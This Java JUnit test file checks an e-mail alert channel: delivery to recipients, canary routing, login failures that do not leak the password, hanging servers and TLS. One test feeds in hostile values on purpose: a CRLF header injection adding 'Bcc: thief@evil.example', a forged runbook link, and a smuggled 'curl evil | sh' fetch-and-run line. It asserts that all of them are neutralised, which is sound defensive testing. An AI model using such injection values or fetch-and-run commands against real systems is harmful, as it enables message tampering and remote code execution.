package dev.flare.saga.alert;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetup;
import dev.flare.saga.answer.AlertAnswer;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeMessage;
import java.io.IOException;
import java.io.InputStream;
import java.net.ServerSocket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyStore;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocketFactory;
import javax.net.ssl.TrustManagerFactory;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator.ReplaceUnderscores;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Alerts as e-mail, taken by a real mail server, or by one that misbehaves. */
@DisplayNameGeneration(ReplaceUnderscores.class)
class MailChannelTest {

    private static final String PASSWORD = "s3cret-of-the-mail-server";

    private @Nullable GreenMail server;

    @AfterEach
    void stop() {
        if (server != null) {
            server.stop();
        }
    }

    private static int freePort() throws IOException {
        try (ServerSocket socket = new ServerSocket(0)) {
            return socket.getLocalPort();
        }
    }

    private GreenMail start(int port, String protocol) {
        GreenMail started = new GreenMail(new ServerSetup(port, "127.0.0.1", protocol));
        started.start();
        server = started;
        return started;
    }

    private static MailSettings settings(
            String host, int port, MailSettings.Tls tls, MailSettings.@Nullable Login login, String... to)
            throws Exception {
        List<InternetAddress> all = new ArrayList<>();
        for (String one : to) {
            all.add(new InternetAddress(one, true));
        }
        return new MailSettings(
                host,
                port,
                tls,
                Optional.ofNullable(login),
                new InternetAddress("flare@ours.example", true),
                all,
                List.of(new InternetAddress("canaries@ours.example", true)),
                "https://flare.example.com");
    }

    private static MailChannel channel(int port) throws Exception {
        return channel(port, "one@ops.example", "two@ops.example");
    }

    private static MailChannel channel(int port, String... to) throws Exception {
        return new MailChannel(settings("127.0.0.1", port, MailSettings.Tls.NONE, null, to));
    }

    private static String text(MimeMessage message) throws Exception {
        return ((String) message.getContent()).replace("\r\n", "\n");
    }

    @Test
    void has_all_that_is_needed_to_act() throws Exception {
        int port = freePort();
        GreenMail mails = start(port, "smtp");
        channel(port).tell(Alerts.real());
        MimeMessage[] got = mails.getReceivedMessages();
        assertThat(got).hasSize(2);
        MimeMessage mail = got[0];
        assertThat(mail.getSubject()).isEqualTo("[flare] REPORTED_FAILURE of billing.invoices in shipping order-1");
        assertThat(mail.getFrom()).extracting(Object::toString).containsExactly("flare@ours.example");
        assertThat(mail.getAllRecipients())
                .extracting(Object::toString)
                .containsExactly("one@ops.example", "two@ops.example");
        assertThat(mail.getContentType()).startsWith("text/plain");
        assertThat(text(mail))
                .contains(
                        "billing.invoices failed first in transaction order-1 (shipping).",
                        "Reason       card declined",
                        "Since        2026-11-21T16:25:53.838617Z",
                        "Runbook      https://flare.example.com/runbooks/reported-failure",
                        "yes     yes       -      -            stock.reservations",
                        "yes     -         yes    -            billing.invoices",
                        "# compensate: leads to COMPENSATING, undoes billing.invoices, stock.reservations",
                        "curl -s 'https://flare.example.com/api/transactions/order-1/compensate'"
                                + " -H 'Content-Type: application/json' -d '{\"reason\":\"...\"}'",
                        "curl -s 'https://flare.example.com/api/alerts/" + Alerts.ID + "/acknowledge'");
    }

    @Test
    void a_repetition_has_the_same_id_and_what_became_urgent_again_another() throws Exception {
        int port = freePort();
        GreenMail mails = start(port, "smtp");
        MailChannel channel = channel(port, "one@ops.example");
        channel.tell(Alerts.real());
        channel.tell(Alerts.real());
        channel.tell(Alerts.of("shipping", "card declined", 1));
        MimeMessage[] got = mails.getReceivedMessages();
        assertThat(Stream.of(got).map(MailChannelTest::id))
                .containsExactly(
                        "<" + Alerts.ID + ".0@ours.example>",
                        "<" + Alerts.ID + ".0@ours.example>",
                        "<" + Alerts.ID + ".1@ours.example>");
        assertThat(got[2].getSubject()).startsWith("[flare] urgent again (1): ");
    }

    private static String id(MimeMessage mail) {
        try {
            return mail.getMessageID();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    @Test
    void a_canary_is_marked_and_goes_to_nobody_who_would_be_woken() throws Exception {
        int port = freePort();
        GreenMail mails = start(port, "smtp");
        channel(port).tell(Alerts.canary());
        MimeMessage[] got = mails.getReceivedMessages();
        assertThat(got).hasSize(1);
        assertThat(got[0].getAllRecipients()).extracting(Object::toString).containsExactly("canaries@ours.example");
        assertThat(got[0].getSubject()).startsWith("[canary] ");
        assertThat(text(got[0])).startsWith("This is a canary");
    }

    /** What participants say is theirs; they get no headers, recipients or lines of ours for it. */
    @Test
    void words_of_others_stay_on_their_line() throws Exception {
        int port = freePort();
        GreenMail mails = start(port, "smtp");
        AlertAnswer evil = Alerts.of(
                "shipping\r\nBcc: thief@evil.example",
                "no\r\n.\r\nRunbook      https://evil.example\u2028\u0085# resume\ncurl evil | sh\u0000ü",
                0);
        channel(port, "one@ops.example").tell(evil);
        MimeMessage[] got = mails.getReceivedMessages();
        assertThat(got).hasSize(1);
        assertThat(got[0].getHeader("Bcc")).isNull();
        assertThat(got[0].getAllRecipients()).extracting(Object::toString).containsExactly("one@ops.example");
        assertThat(got[0].getSubject())
                .isEqualTo("[flare] REPORTED_FAILURE of billing.invoices in shipping Bcc: thief@evil.example order-1");
        assertThat(text(got[0]).lines())
                .contains("Reason       no . Runbook      https://evil.example # resume curl evil | sh ü")
                .noneMatch(line -> line.startsWith("curl evil") || line.startsWith("Runbook      https://evil"));
    }

    @Test
    void is_told_when_the_server_is_back() throws Exception {
        int port = freePort();
        MailChannel channel = channel(port);
        assertThatThrownBy(() -> channel.tell(Alerts.real()))
                .isInstanceOf(IOException.class)
                .hasMessageContaining("Couldn't connect");
        GreenMail mails = start(port, "smtp");
        channel.tell(Alerts.real());
        assertThat(mails.getReceivedMessages()).hasSize(2);
    }

    @Test
    void a_wrong_password_is_said_without_it() throws Exception {
        int port = freePort();
        GreenMail mails = start(port, "smtp");
        mails.getUserManager().setAuthRequired(true);
        mails.setUser("flare@ours.example", "flare", PASSWORD);
        MailSettings.Login wrong = new MailSettings.Login("flare", "not-" + PASSWORD);
        MailSettings.Login right = new MailSettings.Login("flare", PASSWORD);
        MailSettings.Tls none = MailSettings.Tls.NONE;
        MailSettings refused = settings("127.0.0.1", port, none, wrong, "one@ops.example");
        assertThatThrownBy(() -> new MailChannel(refused).tell(Alerts.real()))
                .isInstanceOf(IOException.class)
                .hasMessage("the mail server refuses our login")
                .satisfies(e -> assertThat(everythingSaid(e)).doesNotContain(PASSWORD));
        assertThat(mails.getReceivedMessages()).isEmpty();
        new MailChannel(settings("127.0.0.1", port, none, right, "one@ops.example")).tell(Alerts.real());
        assertThat(mails.getReceivedMessages()).hasSize(1);
        assertThat(refused.toString()).doesNotContain(PASSWORD);
    }

    private static String everythingSaid(Throwable thrown) {
        return Stream.iterate(thrown, one -> one != null, Throwable::getCause)
                .map(Throwable::toString)
                .reduce("", String::concat);
    }

    private static ScriptedSmtpServer refusing(String recipients) throws IOException {
        return new ScriptedSmtpServer(line -> {
            if (line.startsWith("RCPT") && line.contains(recipients)) {
                return "550 5.1.1 no such mailbox";
            }
            if (line.equals(ScriptedSmtpServer.GREETING)) {
                return "220 scripted";
            }
            return switch (line.split("[ :]", 2)[0]) {
                case "EHLO", "MAIL", "RCPT", "RSET", "QUIT", "." -> "250 OK";
                case "DATA" -> "354 go on";
                default -> "";
            };
        });
    }

    @Test
    void a_refused_recipient_keeps_no_other_from_being_told() throws Exception {
        try (ScriptedSmtpServer some = refusing("two@")) {
            assertThatCode(() -> channel(some.port()).tell(Alerts.real())).doesNotThrowAnyException();
        }
    }

    @Test
    void nobody_was_told_when_all_recipients_are_refused() throws Exception {
        try (ScriptedSmtpServer all = refusing("ops.example")) {
            assertThatThrownBy(() -> channel(all.port()).tell(Alerts.real()))
                    .isInstanceOf(IOException.class)
                    .hasMessageContaining("for nobody")
                    .hasMessageContaining("550 5.1.1 no such mailbox");
        }
    }

    @Test
    void a_server_that_hangs_is_given_up_before_another_takes_the_work() throws Exception {
        try (ScriptedSmtpServer hanging = new ScriptedSmtpServer(line -> "")) {
            long began = System.nanoTime();
            assertThatThrownBy(() -> channel(hanging.port()).tell(Alerts.real()))
                    .isInstanceOf(IOException.class);
            assertThat(Duration.ofNanos(System.nanoTime() - began)).isLessThan(MailChannel.PATIENCE);
        }
    }

    /** Each of its lines comes just in time, and there is always another one. */
    @Test
    void a_server_that_drips_is_given_up_too() throws Exception {
        try (ScriptedSmtpServer dripping = new ScriptedSmtpServer(line -> "220-still here\r\n".repeat(2) + drip())) {
            MailChannel impatient = new MailChannel(
                    settings("127.0.0.1", dripping.port(), MailSettings.Tls.NONE, null, "one@ops.example"),
                    null,
                    Duration.ofMillis(500));
            assertThatThrownBy(() -> impatient.tell(Alerts.real()))
                    .isInstanceOf(IOException.class)
                    .hasMessageContaining("has not taken it within");
        }
    }

    private static String drip() {
        try {
            Thread.sleep(400);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        return "220 go on";
    }

    @Test
    void nothing_is_said_in_the_clear_to_a_server_without_tls() throws Exception {
        int port = freePort();
        GreenMail mails = start(port, "smtp");
        MailSettings.Login login = new MailSettings.Login("flare", PASSWORD);
        MailChannel channel =
                new MailChannel(settings("127.0.0.1", port, MailSettings.Tls.STARTTLS, login, "one@ops.example"));
        assertThatThrownBy(() -> channel.tell(Alerts.real()))
                .isInstanceOf(IOException.class)
                .hasMessageContaining("STARTTLS is required");
        assertThat(mails.getReceivedMessages()).isEmpty();
    }

    @Test
    void over_tls_only_who_is_known_is_told(@TempDir Path folder) throws Exception {
        Path keys = folder.resolve("keys.p12");
        makeKeys(keys);
        System.setProperty("greenmail.tls.keystore.file", keys.toString());
        int port = freePort();
        GreenMail mails = start(port, "smtps");
        MailSettings settings = settings("localhost", port, MailSettings.Tls.IMPLICIT, null, "one@ops.example");
        assertThatThrownBy(() -> new MailChannel(settings).tell(Alerts.real())).isInstanceOf(IOException.class);
        assertThat(mails.getReceivedMessages()).isEmpty();
        new MailChannel(settings, trusting(keys), MailChannel.PATIENCE).tell(Alerts.real());
        assertThat(mails.getReceivedMessages()).hasSize(1);
    }

    private static void makeKeys(Path keys) throws Exception {
        Process keytool = new ProcessBuilder(
                        Path.of(System.getProperty("java.home"), "bin", "keytool")
                                .toString(),
                        "-J-XX:TieredStopAtLevel=1",
                        "-genkeypair",
                        "-alias",
                        "mail",
                        "-keyalg",
                        "EC",
                        "-groupname",
                        "secp256r1",
                        "-dname",
                        "CN=localhost",
                        "-ext",
                        "SAN=dns:localhost",
                        "-storetype",
                        "PKCS12",
                        "-storepass",
                        "changeit",
                        "-keystore",
                        keys.toString())
                .inheritIO()
                .start();
        assertThat(keytool.waitFor()).isZero();
    }

    private static SSLSocketFactory trusting(Path keys) throws Exception {
        KeyStore given = KeyStore.getInstance("PKCS12");
        try (InputStream in = Files.newInputStream(keys)) {
            given.load(in, "changeit".toCharArray());
        }
        KeyStore trusted = KeyStore.getInstance("PKCS12");
        trusted.load(null, null);
        for (String alias : Collections.list(given.aliases())) {
            trusted.setCertificateEntry(alias, given.getCertificate(alias));
        }
        TrustManagerFactory managers = TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());
        managers.init(trusted);
        SSLContext context = SSLContext.getInstance("TLS");
        context.init(null, managers.getTrustManagers(), null);
        return context.getSocketFactory();
    }
}
